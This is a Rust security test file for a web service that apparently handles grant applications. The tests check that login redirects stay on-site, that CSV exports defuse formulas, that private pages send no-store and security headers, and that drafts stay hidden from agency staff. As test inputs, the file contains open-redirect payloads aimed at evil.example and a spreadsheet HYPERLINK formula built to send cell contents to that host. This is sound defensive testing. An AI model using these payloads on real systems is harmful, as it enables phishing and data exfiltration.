//! What an attacker tries: sending a logged-in person off-site, planting a formula in a
//! spreadsheet, reading a private answer from a shared computer's cache.

use crate::helpers::{OFFICER, PASSWORD, csrf_from, spawn_app, spawn_configured};

fn location(response: &reqwest::Response) -> String {
    response
        .headers()
        .get("location")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_string()
}

#[actix_web::test]
async fn after_login_only_paths_on_this_site_are_followed() {
    let app = spawn_app().await;
    // Browsers drop a tab from a Location, so "/\t/evil.example" would be "//evil.example".
    for next in [
        "/\t/evil.example",
        "/\n/evil.example",
        "/ /evil.example",
        "//evil.example",
        "/\\evil.example",
        "https://evil.example/",
    ] {
        let client = crate::helpers::new_client();
        let (_, page) = (
            200,
            client
                .get(app.url("/logga-in"))
                .send()
                .await
                .unwrap()
                .text()
                .await
                .unwrap(),
        );
        let response = client
            .post(app.url("/logga-in"))
            .form(&[
                ("csrf_token", csrf_from(&page).as_str()),
                ("email", OFFICER),
                ("password", PASSWORD),
                ("next", next),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(response.status().as_u16(), 303, "{next:?}");
        assert_eq!(location(&response), "/", "login with next={next:?}");
        // Already logged in, the login page redirects at once: the same rule.
        let response = client
            .get(app.url("/logga-in"))
            .query(&[("next", next)])
            .send()
            .await
            .unwrap();
        assert_eq!(location(&response), "/", "GET /logga-in?next={next:?}");
    }
    // A path on the site is followed.
    app.login(OFFICER).await;
    let response = app
        .get("/logga-in?next=%2Fgranskningslogg%3Fsida%3D2")
        .await;
    assert_eq!(location(&response), "/granskningslogg?sida=2");
}

#[actix_web::test]
async fn a_formula_typed_into_the_service_stays_text_in_the_spreadsheet() {
    let app = spawn_app().await;
    let call_id = app.call_id().await;
    let csrf = app.api_login(OFFICER).await;
    let (status, list) = app
        .get_json(&format!("/api/v1/calls/{call_id}/payments"))
        .await;
    assert_eq!(status, 200);
    let planned: Vec<String> = list
        .as_array()
        .unwrap()
        .iter()
        .filter(|p| p["status"] == "planned")
        .map(|p| p["id"].as_str().unwrap().to_string())
        .take(1)
        .collect();
    assert_eq!(planned.len(), 1, "the demo has a planned payment: {list}");
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1;\"Klicka\")";
    let (status, body) = app
        .post_json(
            &csrf,
            "/api/v1/payments/mark-paid",
            serde_json::json!({"payment_ids": planned, "paid_on": "2020-06-30", "reference": formula}),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    let response = app
        .get(&format!("/utlysningar/{call_id}/utbetalningar.csv"))
        .await;
    assert_eq!(response.status().as_u16(), 200);
    let file = response.text().await.unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(file.trim_start_matches('\u{feff}').as_bytes());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect();
    assert!(
        cells.iter().any(|c| c == &format!("'{formula}")),
        "the formula is written as text: {file}"
    );
    assert!(
        !cells.iter().any(|c| c.starts_with('=')),
        "no cell starts a formula: {file}"
    );
    // Amounts are still numbers for the spreadsheet.
    assert!(cells.iter().any(|c| c == "2913808,00"), "{file}");
}

fn header(response: &reqwest::Response, name: &str) -> Option<String> {
    response
        .headers()
        .get(name)
        .and_then(|v| v.to_str().ok())
        .map(str::to_string)
}

#[actix_web::test]
async fn private_answers_are_never_cached_and_every_answer_has_the_security_headers() {
    let app = spawn_app().await;
    let call_id = app.call_id().await;
    let application_id = app.application_id_of("232100-0255");
    app.login(OFFICER).await;
    let (_, decisions) = app
        .get_json(&format!("/api/v1/applications/{application_id}"))
        .await;
    let decision_id = decisions["decisions"][0]["id"]
        .as_str()
        .map(str::to_string)
        .unwrap_or_default();
    assert!(!decision_id.is_empty(), "{decisions}");
    let private = [
        "/".to_string(),
        format!("/ansokningar/{application_id}"),
        format!("/api/v1/applications/{application_id}"),
        "/api/v1/me".to_string(),
        format!("/beslut/{decision_id}/brev.pdf"),
        format!("/utlysningar/{call_id}/utbetalningar.csv"),
        // Errors too: a refusal page and the API's problem JSON.
        "/finns-inte".to_string(),
        "/api/v1/applications/finns-inte".to_string(),
    ];
    for path in &private {
        let response = app.get(path).await;
        assert_eq!(
            header(&response, "cache-control").as_deref(),
            Some("no-store"),
            "{path} answered {}",
            response.status()
        );
        assert!(
            header(&response, "permissions-policy").is_some_and(|p| p.contains("camera=()")),
            "{path}"
        );
        assert_eq!(
            header(&response, "x-content-type-options").as_deref(),
            Some("nosniff")
        );
        assert!(
            header(&response, "content-security-policy").is_some(),
            "{path}"
        );
        // Plain HTTP in tests: no HSTS.
        assert_eq!(header(&response, "strict-transport-security"), None);
    }
    // The stylesheet may be cached: it is the same for everyone.
    let response = app.get("/static/app.css").await;
    assert_eq!(
        header(&response, "cache-control").as_deref(),
        Some("public, max-age=3600")
    );

    // Behind HTTPS (secure cookies), browsers are told to keep to HTTPS.
    let app = spawn_configured(|s| s.cookie_secure = true).await;
    for path in ["/", "/api/v1/calls", "/finns-inte"] {
        let response = app.get(path).await;
        assert!(
            header(&response, "strict-transport-security")
                .is_some_and(|h| h.starts_with("max-age=")),
            "{path}"
        );
    }
}

/// A draft never sent in is the organisation's own: the agency's staff and auditors do not
/// see it by its id, not even its title, and the attempt is recorded.
#[actix_web::test]
async fn a_draft_never_sent_in_is_not_shown_to_the_agency() {
    let app = crate::helpers::spawn_app_without_cases().await;
    let id = crate::uploads::skane_draft(&app).await;
    // Skåne's own people see it.
    let (status, _) = app.get_json(&format!("/api/v1/applications/{id}")).await;
    assert_eq!(status, 200);
    for email in [OFFICER, crate::helpers::AUDITOR] {
        let staff = crate::helpers::new_client();
        let app_as = |path: String| staff.get(app.url(&path)).send();
        let csrf = {
            let response = staff
                .post(app.url("/api/v1/session"))
                .json(&serde_json::json!({"email": email, "password": PASSWORD}))
                .send()
                .await
                .unwrap();
            assert_eq!(response.status().as_u16(), 200);
            let body: serde_json::Value = response.json().await.unwrap();
            body["csrf_token"].as_str().unwrap().to_string()
        };
        for path in [
            format!("/api/v1/applications/{id}"),
            format!("/api/v1/applications/{id}/assessment"),
            format!("/ansokningar/{id}"),
        ] {
            let response = app_as(path.clone()).await.unwrap();
            assert_eq!(response.status().as_u16(), 404, "{email} GET {path}");
            let body = response.text().await.unwrap();
            assert!(!body.contains("Höstens"), "{body}");
        }
        if email == OFFICER {
            let response = staff
                .post(app.url(&format!("/api/v1/applications/{id}/supplement-requests")))
                .header("X-CSRF-Token", &csrf)
                .json(&serde_json::json!({"what": "Mer text", "due_on": "2020-10-20"}))
                .send()
                .await
                .unwrap();
            assert_eq!(
                response.status().as_u16(),
                404,
                "supplement request on a draft"
            );
        }
    }
    let denied = app.audit_events("access.denied");
    assert!(
        denied
            .iter()
            .any(|e| e.entity_id.as_deref() == Some(id.as_str())),
        "{denied:?}"
    );
}
